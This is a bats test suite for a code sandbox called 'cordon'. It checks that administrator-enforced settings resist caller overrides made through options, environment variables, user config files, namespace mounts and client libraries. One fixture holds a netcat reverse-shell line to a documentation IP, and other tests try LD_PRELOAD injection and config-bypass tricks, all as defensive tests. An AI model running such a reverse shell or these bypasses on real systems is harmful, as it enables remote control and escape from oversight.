#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# No caller can weaken what is below `enforced` in /etc/cordon/config.yaml: each way that a caller has, as root and
# as an ordinary user, must be refused with the file and line and the person to ask, or change nothing.
load helper
load config_enforced

@test "enforced values hold without options of the caller" {
	works run --user x.py
	out_is 1
	call user run --user --json x.py
	holds 'r["tier"] == "no-cgroup"'
	local sha
	sha=$("$CORDON" policy show --policy /etc/cordon/policy.yaml --json | grep -o '"sha256":"[0-9a-f]*"')
	[[ $(cat "$T/out") == *"$(cut -d'"' -f4 <<<"$sha")"* ]] || show
	works policy show
	out_has /etc/cordon/policy.yaml
}

@test "a caller may say the same, or be stricter" {
	works run --user --tier no-cgroup --policy /etc/cordon/policy.yaml --rules /etc/cordon/rules --time 20s x.py
	works run --user --time 5s --memory 64M --pids 100 x.py
	call root run --user --tier full x.py
	exits 0
}

@test "tier: an option, a variable, the user's file" {
	refuses tier 4 run --user --tier no-userns x.py
	VARS=(CORDON_TIER=no-userns)
	refuses tier 4 run --user x.py
	VARS=()
	users <<<$'version: 1\ntier: no-userns'
	refuses tier 4 run --user x.py
	err_has "$T/config/cordon/config.yaml:2: tier is limited"
}

@test "tier: no variable or file makes it weaker where the option says a strong one" {
	VARS=(CORDON_TIER=no-userns)
	refuses tier 4 run --user --tier full x.py
}

@test "policy: an option of every command that has one" {
	refuses policy 5 run --user --policy "$T/lax.yaml" x.py
	refuses policy 5 apply --conversation x --policy "$T/lax.yaml" .
	refuses policy 5 ingest --conversation x --kind web --name n --policy "$T/lax.yaml" x.py
	refuses policy 5 plan --conversation x --policy "$T/lax.yaml" x.py
	refuses policy 5 policy show --policy "$T/lax.yaml"
	refuses policy 5 mcp --policy "$T/lax.yaml"
	refuses policy 5 executor --policy "$T/lax.yaml"
}

@test "policy: the same file by another name" {
	refuses policy 5 run --user --policy /etc/cordon/../cordon/policy.yaml x.py
	cp /etc/cordon/policy.yaml "$T/policy.yaml"
	refuses policy 5 run --user --policy "$T/policy.yaml" x.py
	cd /etc/cordon
	refuses policy 5 run --user --policy policy.yaml "$T/x.py"
}

@test "policy: a variable, the user's file" {
	VARS=(CORDON_POLICY="$T/lax.yaml")
	refuses policy 5 run --user x.py
	refuses policy 5 apply --conversation x .
	VARS=()
	users <<<$'version: 1\npolicy: '"$T/lax.yaml"
	refuses policy 5 run --user x.py
}

@test "policy: HOME and XDG_CONFIG_HOME that lead to another file" {
	mkdir -p other/cordon other/.config/cordon
	printf 'version: 1\npolicy: %s\n' "$T/lax.yaml" | tee other/cordon/config.yaml >other/.config/cordon/config.yaml
	VARS=(XDG_CONFIG_HOME="$T/other")
	refuses policy 5 run --user x.py
	VARS=(-u XDG_CONFIG_HOME HOME="$T/other")
	refuses policy 5 run --user x.py
	VARS=(-u XDG_CONFIG_HOME -u HOME)
	works run --user x.py
	VARS=(XDG_CONFIG_HOME=/dev/null)
	works run --user x.py
	VARS=(CORDON_ETC="$T/other" SYSCONFDIR="$T/other" XDG_CONFIG_DIRS="$T/other")
	works run --user x.py
	call user policy show
	out_has /etc/cordon/policy.yaml
}

@test "an option that comes by --words" {
	printf -- '--policy=%s\0x.py\0' "$T/lax.yaml" >words
	local who
	for who in root user; do
		status=0
		as "$who" "$CORDON" run --user --words 9 9<words >"$T/out" 2>"$T/err" || status=$?
		exits 126
		err_has '/etc/cordon/config.yaml:5 enforces policy'
	done
	printf -- '--tier\0no-userns\0x.py\0' >words
	as user "$CORDON" run --words 9 9<words >"$T/out" 2>"$T/err" || status=$?
	exits 126
	err_has 'config.yaml:4 enforces tier'
}

@test "an option given twice is an error; each value of a list option is checked" {
	local who
	for who in root user; do
		call "$who" run --user --policy /etc/cordon/policy.yaml --policy "$T/lax.yaml" x.py
		exits 125
		err_has '--policy is given twice'
		[ ! -s "$T/out" ] || show
		call "$who" run --user --tier full --tier no-userns x.py
		exits 125
		err_has '--tier is given twice'
		[ ! -s "$T/out" ] || show
	done
	refuses rules 6 run --user --rules /etc/cordon/rules --rules "$T/rules" x.py
}

@test "rules: an option, a variable, the user's file" {
	mkdir none
	refuses rules 6 run --user --rules "$T/none" x.py
	refuses rules 6 scan --rules "$T/rules" x.py
	refuses rules 6 ingest --conversation x --kind web --name n --rules "$T/none" x.py
	refuses rules 6 plan --conversation x --rules "$T/none" x.py
	VARS=(CORDON_RULES="$T/none:$T/rules")
	refuses rules 6 run --user x.py
	VARS=()
	users <<<$'version: 1\nrules: ['"$T/rules]"
	refuses rules 6 run --user x.py
}

@test "rules: others in the places of the default packs are not used" {
	mkdir -p data/cordon/rules/agent-threat-rules
	VARS=(XDG_DATA_HOME="$T/data")
	works scan x.py
	grep -q /etc/cordon/rules "$T/err" "$T/out" || show
	[[ $(cat "$T/err" "$T/out") != *agent-threat-rules* ]] || show
	printf 'import os; os.system("nc -e /bin/bash 192.0.2.1 4444")\n' >bad.py
	call user run --user bad.py
	exits 126
	err_has CORDON-2026-0001
}

@test "enforced limits hold against options, variables and the user's file, and without them" {
	refuses limits.time 7 run --user --time 21s x.py
	refuses limits.memory 7 run --user --memory 601M x.py
	VARS=(CORDON_LIMITS_TIME=1h)
	refuses limits.time 7 run --user x.py
	VARS=()
	users <<<$'version: 1\nlimits: {memory: 1G}'
	refuses limits.memory 7 run --user x.py
	rm "$T/config/cordon/config.yaml"
	works config show
	grep -qE '^limits.time +20s +/etc/cordon/config.yaml:7, enforced by /etc/cordon/config.yaml:7' "$T/out" || show
	printf 'import time; time.sleep(99)\n' >long.py
	config <<<$'version: 1\ntier: no-cgroup\nenforced: {limits: {time: 1s}}'
	call user run --user long.py
	exits 124
	err_has "the time limit"
}

@test "a policy cannot raise what is enforced: its tier, its limits" {
	config <<-'END'
		version: 1
		enforced: {tier: full, limits: {time: 1s}}
	END
	printf 'version: 2\nexposed: {tier: no-userns, limits: {time: 1h}}\n' >low.yaml
	refuses tier 2 run --policy low.yaml --tier no-cgroup x.py
	refuses tier 2 run --exposed --policy low.yaml --tier no-userns x.py
	refuses limits.time 2 run --exposed --policy low.yaml --time 2s x.py
	call root run --exposed --policy low.yaml --json x.py
	holds 'r["tier"] == "full"'
}

@test "log.keep, notify and heads: the user's file, a variable" {
	VARS=(CORDON_LOG_KEEP=1h)
	refuses log.keep 8 run --user x.py
	VARS=(CORDON_LOG_KEEP=900d)
	refuses log.keep 8 audit verify
	VARS=()
	users <<<$'version: 1\nlog: {keep: 1h}'
	refuses log.keep 8 run --user x.py
	users <<<$'version: 1\nnotify: {command: [/usr/bin/true, other]}'
	refuses notify 9 run --user x.py
	users <<<$'version: 1\nheads: {url: "https://a.example/", secret_file: /x}'
	refuses heads 10 run --user x.py
	users <<<$'version: 1\nnotify: {command: [/usr/bin/true]}'
	works run --user x.py
}

# The state belongs to one account: here the user's.
fixed_state()
{
	config <<<$'version: 1\ntier: no-cgroup\nenforced:\n  state: '"$T/as-user/fixed"
	call user run --user x.py
	exits 0
	[ -e "$T/as-user/fixed/log.db" ]
}
refuses_user()
{
	call user "$@"
	exits 126
	err_has '/etc/cordon/config.yaml:4 enforces'
}

@test "log.keep: an option of audit archive, and a date" {
	works run --user x.py
	refuses log.keep 8 audit archive --keep 1h "$T/both/old"
	refuses log.keep 8 audit archive --keep 900d "$T/both/old"
	local who
	for who in root user; do
		call "$who" audit archive --before "$(date -u -d tomorrow +%F)" "$T/both/old"
		exits 126
		err_has '/etc/cordon/config.yaml:8 enforces log.keep'
		err_has 'ask the administrator of this machine (root)'
	done
	[ ! -e both/old ]
	works audit archive --before "$(date -u -d '100 days ago' +%F)" "$T/both/old"
	works audit archive --keep 90d "$T/both/old"
	# Without enforcement the option wins over the configuration, and takes what is old enough.
	config <<<$'version: 1\nlog: {keep: 90d}'
	works audit archive --keep 1h "$T/both/old"
	call user audit archive --before "$(date -u -d tomorrow +%F)" "$T/as-user/old"
	exits 0
	[ -s as-user/old ]
}

# bats test_tags=long
@test "policy: how many must agree to what a person does" {
	printf 'version: 2\napproval: {approvers: 2}\n' >/etc/cordon/policy.yaml
	printf 'version: 2\napproval: {approvers: 1}\n' >"$T/weaker.yaml"
	mkdir "$T/tree"
	refuses policy 5 grant --policy "$T/weaker.yaml" --directory "$T/tree" --write .
	refuses policy 5 trust --policy "$T/weaker.yaml" "$T/tree"
	# At a terminal, with yes typed, it is no other.
	at_terminal grant --policy "$T/weaker.yaml" --directory "$T/tree" --write .
	exits 126
	out_has '/etc/cordon/config.yaml:5 enforces policy'
	at_terminal grant --directory "$T/tree" --write .
	exits 126
	out_has '2 people must sign it'
	call user grant list
	exits 0
	[[ $(cat "$T/out") != *"$T/tree"* ]] || show
	# Where one is enough, the same words at the same terminal give it.
	printf 'version: 2\n' >/etc/cordon/policy.yaml
	at_terminal grant --directory "$T/tree" --write .
	exits 0
	call user grant list
	out_has "$T/tree"
}

# bats test_tags=long
@test "state: an option of every command that has one" {
	fixed_state
	refuses_user run --user --state "$T/as-user/other" x.py
	refuses_user conversation new --state "$T/as-user/other"
	refuses_user trust list --state "$T/as-user/other"
	refuses_user untrust "$T" --state "$T/as-user/other"
	refuses_user grant list --state "$T/as-user/other"
	refuses_user diff --conversation x --state "$T/as-user/other" .
	refuses_user apply --conversation x --state "$T/as-user/other" .
	refuses_user reset --conversation x --state "$T/as-user/other" .
	refuses_user ingest --conversation x --kind web --name n --state "$T/as-user/other" x.py
	refuses_user plan --conversation x --state "$T/as-user/other" x.py
	refuses_user mcp --state "$T/as-user/other"
	refuses_user executor --state "$T/as-user/other"
	refuses_user approvals list --state "$T/as-user/other"
	refuses_user audit verify --state "$T/as-user/other"
	[ ! -e "$T/as-user/other" ]
}

# bats test_tags=long
@test "state: variables, the user's file, another home, another database" {
	fixed_state
	VARS=(CORDON_STATE="$T/as-user/other")
	refuses_user run --user x.py
	VARS=(CORDON_STORE_URL=postgres://nowhere/x)
	refuses_user run --user x.py
	refuses_user audit verify
	VARS=()
	users <<<$'version: 1\nstate: '"$T/as-user/other"
	refuses_user run --user x.py
	rm "$T/config/cordon/config.yaml"
	local before after
	before=$(as user "$CORDON" audit export | wc -l)
	VARS=(-u XDG_STATE_HOME HOME="$T/as-user/home")
	call user run --user x.py
	exits 0
	VARS=(XDG_STATE_HOME="$T/as-user/else")
	call user run --user x.py
	exits 0
	after=$(as user "$CORDON" audit export | wc -l)
	[ "$after" -gt "$before" ]
	[ ! -e "$T/as-user/other" ] && [ ! -e "$T/as-user/home" ] && [ ! -e "$T/as-user/else" ]
}

@test "the library: policy, tier, state, limits" {
	gcc -o both/example "$TOP/tests/lib/example.c" -I"$TOP/include" "$(ls "$BUILD"/libcordon.so.0.*)"
	cp "$BUILD"/libcordon.so.0.* both/libcordon.so.0
	own_programs
	local option
	for option in "policy=$T/lax.yaml" tier=no-userns "rules=$T/rules" time=1h; do
		as user env LD_LIBRARY_PATH="$T/both" both/example program="$CORDON" user "$option" <x.py >out 2>err || true
		grep -q '^\[error -1\] .*on this machine' out || show
	done
	as user env LD_LIBRARY_PATH="$T/both" both/example program="$CORDON" user <x.py >out
	out_is $'1\n[exited 0]'
}

# bats test_tags=long
@test "the Python client: policy, tier, state, rules, limits" {
	config <<-END
		version: 1
		tier: no-cgroup
		enforced:
		  tier: no-cgroup
		  policy: /etc/cordon/policy.yaml
		  rules: [/etc/cordon/rules]
		  state: $T/as-user/fixed
		  limits: {time: 20s}
	END
	cat >both/client.py <<-'PY'
		import sys
		import cordon
		program, bad = sys.argv[1:]
		key, value = bad.split("=")
		def refused(call):
		    try:
		        call()
		    except cordon.Refused as e:
		        assert "/etc/cordon/config.yaml:" in str(e), e
		        return
		    sys.exit(f"{bad} was taken")
		good = cordon.Cordon(program, user=True)
		assert good.run("print(1)").stdout == b"1\n"
		if key == "time":
		    refused(lambda: good.run("print(1)", time=value))
		else:
		    given = [value] if key == "rules" else value
		    refused(lambda: cordon.Cordon(program, user=True, **{key: given}).run("print(1)"))
		    if key != "rules" and key != "tier":
		        refused(lambda: cordon.Cordon(program, **{key: value}).plan("print(1)", conversation="x", lang="python"))
	PY
	cp -r "$TOP/clients/python/cordon" both/
	own_programs
	local option
	for option in policy="$T/lax.yaml" tier=no-userns state="$T/as-user/other" rules="$T/rules" time=1h; do
		as user env PYTHONPATH="$T/both" /usr/bin/python3 -B both/client.py "$CORDON" "$option" ||
			{ echo "$option"; return 1; }
	done
}

# bats test_tags=long
@test "each path in an enforced command must belong to root, scripts included" {
	mkdir /etc/cordon/tell.d
	echo 'exit 0' >/etc/cordon/tell.sh
	local sh
	sh=$(realpath /bin/sh)
	config <<<$'version: 1\ntier: no-cgroup\nenforced:\n  notify: {command: ['"$sh, /etc/cordon/tell.sh, -x, /, /etc/cordon/tell.d, /dev/stdin, /etc/cordon/gone]}"
	works run --user x.py
	chmod 666 /etc/cordon/tell.sh
	stops 'enforced.notify: /etc/cordon/tell.sh: users other than root can change it'
	chmod 644 /etc/cordon/tell.sh
	chown "$TEST_UID" /etc/cordon/tell.d
	stops 'enforced.notify: /etc/cordon/tell.d: users other than root can change it'
	chown 0 /etc/cordon/tell.d
	# What a caller could make is as bad as what a caller could change.
	config <<<$'version: 1\ntier: no-cgroup\nenforced:\n  heads: {command: ['"$sh, $T/both/gone.sh]}"
	stops 'enforced.heads: '"$T/both/gone.sh: users other than root can change it"
}

# bats test_tags=long
@test "a user namespace in which the caller is root and mounts a file of their own" {
	setpriv --reuid "$TEST_UID" --regid "$TEST_UID" --clear-groups unshare -Urm true || skip "no user namespaces here"
	mkdir both/etc
	printf 'version: 1\ntier: no-cgroup\n' >both/etc/config.yaml
	chown -R "$TEST_UID" both/etc
	local inner='mount --bind "$1" /etc/cordon && exec "$2" run --user x.py'
	status=0
	as user unshare -Urm sh -c "$inner" _ "$T/both/etc" "$CORDON" >"$T/out" 2>"$T/err" || status=$?
	exits 126
	err_has 'this is a user namespace, whose root is not the machine'
	# And the real one is not the machine's root's either, as far as can be told there.
	as user unshare -Ur "$CORDON" run --user x.py >"$T/out" 2>"$T/err" || status=$?
	exits 126
	# What THREATS.md says: without a file there, it is another machine, and the log says so.
	rm both/etc/config.yaml
	as user env XDG_STATE_HOME="$T/as-user/ns" unshare -Urm sh -c 'mount --bind "$1" /etc/cordon && "$2" run --user --tier no-cgroup x.py; "$2" audit export' _ "$T/both/etc" "$CORDON" >"$T/out" 2>"$T/err" || true
	out_has 'of a user namespace'
}

@test "a variable of the caller's does not reach the operator's commands" {
	printf '#!/bin/sh\ncat >/dev/null\nenv >"%s"\n' "$T/both/env" >/etc/cordon/sink
	chmod 755 /etc/cordon/sink
	printf 'version: 1\ntier: no-cgroup\nenforced: {heads: {command: [/etc/cordon/sink]}}\n' | config
	VARS=(LD_PRELOAD=/none.so HOME=/evil BASH_ENV=/evil)
	call user conversation new
	exits 0
	for _ in $(seq 100); do [ ! -s "$T/both/env" ] || break; sleep 0.05; done
	[ "$(grep -v '^PWD=' "$T/both/env" | sort | cut -d= -f1 | tr '\n' ' ')" = 'CORDON_EVENT PATH ' ] ||
		{ cat "$T/both/env"; false; }
	# Nor where the caller's own file says the same.
	rm "$T/both/env"
	users <<<$'version: 1\nheads: {command: [/etc/cordon/sink]}'
	call user conversation new
	exits 0
	for _ in $(seq 100); do [ ! -s "$T/both/env" ] || break; sleep 0.05; done
	[ "$(grep -v '^PWD=' "$T/both/env" | sort | cut -d= -f1 | tr '\n' ' ')" = 'CORDON_EVENT PATH ' ] ||
		{ cat "$T/both/env"; false; }
}

@test "a backup brings no trust and no grant past the policy" {
	rm /etc/cordon/config.yaml
	call user conversation new
	call user state backup "$T/both/backup" --keys
	exits 0
	printf 'version: 1\nenforced: {policy: /etc/cordon/policy.yaml}\n' | config
	VARS=(XDG_STATE_HOME="$T/both/other")
	call user state restore "$T/both/backup"
	exits 126
	err_has 'only root restores a state on this machine'
	err_has '/etc/cordon/config.yaml:2'
	[ ! -e "$T/both/other" ] || show
}

# bats test_tags=long
@test "an older log is accepted by root alone where the policy is enforced" {
	mv /etc/cordon/config.yaml "$T/enforced.yaml"
	VARS=(XDG_STATE_HOME="$T/both/state")
	call user conversation new
	as user rm "$T/both/state/cordon/heads"
	as user env "${VARS[@]}" "$CORDON" conversation new && return 1
	printf 'version: 1\nenforced: {policy: /etc/cordon/policy.yaml}\n' | config
	as user env "${VARS[@]}" script -qec "$CORDON audit accept" /dev/null <<<yes >"$T/out" 2>&1 && return 1
	out_has 'only root accepts a loss on this machine'
	rm /etc/cordon/config.yaml
	as user env "${VARS[@]}" script -qec "$CORDON audit accept" /dev/null <<<yes >"$T/out" 2>&1 || show
}

# bats test_tags=long
@test "policy: if confirmations are off, waiting code needs a signature too" {
	printf 'version: 2\nprofile: strict\nconfirmation: {write: no, net: no, secret: no}\nexposed: {tier: no-cgroup}\n' >/etc/cordon/policy.yaml
	printf 'version: 1\ntier: no-cgroup\nenforced: {policy: /etc/cordon/policy.yaml}\n' | config
	printf 'import socket; print("sum of the table of the year")\n' >"$T/both/page.txt"
	C=$(as user env "${VARS[@]}" "$CORDON" conversation new)
	as user "$CORDON" ingest --conversation "$C" --kind web --name p "$T/both/page.txt" >"$T/out"
	call user run --conversation "$C" --lang python "$T/both/page.txt"
	exits 75
	ID=$(as user "$CORDON" approvals list | cut -d' ' -f1)
	at_terminal approvals approve "$ID"
	exits 126
	call user run --conversation "$C" --lang python "$T/both/page.txt"
	exits 75
}
